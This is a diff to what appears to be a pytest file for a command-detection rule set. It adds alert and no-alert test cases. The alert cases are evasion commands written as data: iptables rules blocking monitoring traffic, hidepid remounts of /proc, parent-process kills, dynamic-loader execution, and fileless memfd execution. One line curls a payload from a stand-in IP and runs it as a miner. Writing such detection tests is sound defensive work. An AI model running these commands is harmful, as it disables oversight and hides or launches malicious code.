@@ -122,6 +122,20 @@ def test_rules_load_cleanly():
     ('kubectl -n monitoring scale deploy/prometheus-node-monitor --replicas=0', 'watcher_process_stopped'),
     ('kubectl delete ds falco -n falco', 'watcher_process_stopped'),
     ('sudo mount -B /tmp/empty /proc/$(pgrep -f miner)', 'process_hidden_by_bind_mount'),
+    ("sudo iptables -I OUTPUT -p tcp --dport 4317 -j DROP", "monitoring_traffic_blocked"),
+    ("iptables -A OUTPUT -p udp --dport 514 -j REJECT", "monitoring_traffic_blocked"),
+    ("sudo mount -o remount,rw,hidepid=2 /proc", "proc_mounted_with_hidepid"),
+    ("mount -t proc -o hidepid=invisible proc /proc", "proc_mounted_with_hidepid"),
+    ("kill -9 $PPID", "parent_process_killed"),
+    ("kill -TERM \"${PPID}\"", "parent_process_killed"),
+    ("kill -9 $(ps -o ppid= -p $$)", "parent_process_killed"),
+    ("kill $(awk '{print $4}' /proc/self/stat)", "parent_process_killed"),
+    ("/lib64/ld-linux-x86-64.so.2 /tmp/.cache/worker --threads 8", "program_run_by_dynamic_loader"),
+    ("python3 -c \"import os; fd = os.memfd_create('x'); os.write(fd, open('/tmp/m', 'rb').read()); "
+     "os.execv(f'/proc/self/fd/{fd}', ['kworker'])\"", "fileless_execution"),
+    ("perl -e 'my $fd = syscall(319, my $n = \"\", 1); open(my $h, \">&=\" . $fd); print $h <STDIN>; exec {\"/proc/$$/fd/$fd\"} \"sshd\"'",
+     "fileless_execution"),
+    ("curl -s http://203.0.113.5/m > /dev/fd/3; /dev/fd/3 -o pool", "fileless_execution"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -196,6 +210,14 @@ def test_detected(command, rule):
     "find /var/log/app -type f -mtime +30 -exec rm -f {} +",
     "sed -i 's/debug/info/' /etc/app/logging.conf",
     'kubectl scale deploy/web --replicas=0',
+    "sudo iptables -A INPUT -p udp --dport 514 -j DROP",  # syslog from outside refused: hardening, not blinding
+    "sudo iptables -A OUTPUT -p tcp --dport 4317 -j ACCEPT",
+    "sudo mount -o remount,rw /proc",
+    "kill -9 $(ps -A -ostat,ppid | awk '/[zZ]/{print $2}')",  # the parents of zombies, not this shell's
+    "find . -name '*.py' -exec sh -c 'grep -q TODO \"$1\" && kill \"$PPID\"' sh {} \\;",
+    "pkill -P $PPID sleep",
+    "/lib64/ld-linux-x86-64.so.2 --list /usr/bin/python3",
+    "python3 -c 'import os; print(os.listdir(\"/proc/self/fd\"))'",
 ])
 def test_not_alerted(command):
     assert alerts(command) == set()
